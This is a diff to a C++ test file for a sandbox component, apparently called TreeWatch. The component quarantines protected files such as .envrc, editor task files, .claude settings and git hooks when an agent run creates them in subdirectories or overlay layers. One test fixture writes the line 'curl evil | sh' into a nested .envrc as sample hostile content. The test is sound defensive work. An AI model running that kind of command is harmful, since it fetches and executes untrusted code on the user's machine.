@@ -8,15 +8,15 @@
 namespace paddock::gate {
 namespace {
 
-using TreeWatchTest = TreeFixture;
+using TreeWatchTest = TreeFixtureOf<WalkParam>;
 
 // Direnv, editors and agents started in a subdirectory read that directory's files: created or
 // changed there by the run, they are moved aside like the project's own (issue 25).
-TEST_F(TreeWatchTest, ProtectedNamesAtAnyDepth) {
+TEST_P(TreeWatchTest, ProtectedNamesAtAnyDepth) {
   write("sub/.envrc.keep", "");
   write("old/.envrc", "export A=1\n");  // there before the run, untouched: stays
   tick();
-  TreeWatch w = TreeWatch::before(policy_);
+  TreeWatch w = watch();
   write("sub/.envrc", "curl evil | sh\n");
   write("sub/.vscode/tasks.json", "{\"tasks\": []}\n");
   write("pkg/.claude/settings.json", "{\"hooks\": {}}\n");
@@ -33,9 +33,9 @@ TEST_F(TreeWatchTest, ProtectedNamesAtAnyDepth) {
 }
 
 // Every entry of the protected list is found at depth (the walk knows the list, not a copy).
-TEST_F(TreeWatchTest, EveryProtectedEntryNested) {
+TEST_P(TreeWatchTest, EveryProtectedEntryNested) {
   tick();
-  TreeWatch w = TreeWatch::before(policy_);
+  TreeWatch w = watch();
   Paths expected;
   for (const ProtectedEntry& e : workspace_protected_entries()) {
     const std::string p = std::string(e.path);
@@ -49,10 +49,10 @@ TEST_F(TreeWatchTest, EveryProtectedEntryNested) {
 }
 
 // A link the run put where a protected directory was expected is moved aside whole.
-TEST_F(TreeWatchTest, ALinkOnTheWayToAProtectedFile) {
+TEST_P(TreeWatchTest, ALinkOnTheWayToAProtectedFile) {
   mkdir("elsewhere");
   tick();
-  TreeWatch w = TreeWatch::before(policy_);
+  TreeWatch w = watch();
   mkdir("sub");
   link("../elsewhere", "sub/.claude");
   write("elsewhere/settings.json", "{}\n");
@@ -61,9 +61,9 @@ TEST_F(TreeWatchTest, ALinkOnTheWayToAProtectedFile) {
 
 // The policy's own protected paths (the areas' tops) are checked by watch.cc against what they
 // held before the run; the walk leaves them to it.
-TEST_F(TreeWatchTest, ThePolicysProtectedPathsAreLeftToTheirCheck) {
+TEST_P(TreeWatchTest, ThePolicysProtectedPathsAreLeftToTheirCheck) {
   tick();
-  TreeWatch w = TreeWatch::before(policy_);
+  TreeWatch w = watch();
   write(".envrc", "x\n");
   write("sub/.envrc", "x\n");
   EXPECT_EQ(rel_paths(w.after(TreeWatch::kEntryBudget, {}, {root_ + "/.envrc"})), (Paths{"sub/.envrc"}));
@@ -73,13 +73,13 @@ TEST_F(TreeWatchTest, ThePolicysProtectedPathsAreLeftToTheirCheck) {
 // An overlay workspace (issue 25, class 6): the run's writes are in the upper directory, which is
 // walked with its paths shown as the workspace shows them; the lower layer answers whether a
 // repository was there before (a checkout's new HEAD in the upper directory stays).
-TEST_F(TreeWatchTest, AnOverlaysUpperDirectoryIsCheckedAsTheWorkspace) {
+TEST_P(TreeWatchTest, AnOverlaysUpperDirectoryIsCheckedAsTheWorkspace) {
   git_dir("lower/.git");
   mkdir("upper");
   tick();
   const std::string shown = "/jails/j/merged";
   std::vector<SandboxMount> mounts{{shown, root_ + "/lower", Access::ReadWrite, 0, root_ + "/upper", root_ + "/work"}};
-  TreeWatch w = TreeWatch::before(Policy{}, mounts);
+  TreeWatch w = watch(Policy{}, mounts);
   write("upper/.git/HEAD", "ref: refs/heads/topic\n");      // git checkout -b topic, copied up
   write("upper/.git/hooks/post-checkout", "#!/bin/sh\n");   // a hook
   write("upper/HEAD", "ref: refs/heads/main\n");            // a split git directory at the top
@@ -98,6 +98,8 @@ TEST_F(TreeWatchTest, AnOverlaysUpperDirectoryIsCheckedAsTheWorkspace) {
   EXPECT_TRUE(exists("upper/.envrc.paddock-quarantine"));
   EXPECT_TRUE(exists("lower/.git/config"));
 }
+
+INSTANTIATE_TEST_SUITE_P(, TreeWatchTest, ::testing::Values(Walk::Full, Walk::Indexed), walk_name);
 
 }  // namespace
 }  // namespace paddock::gate
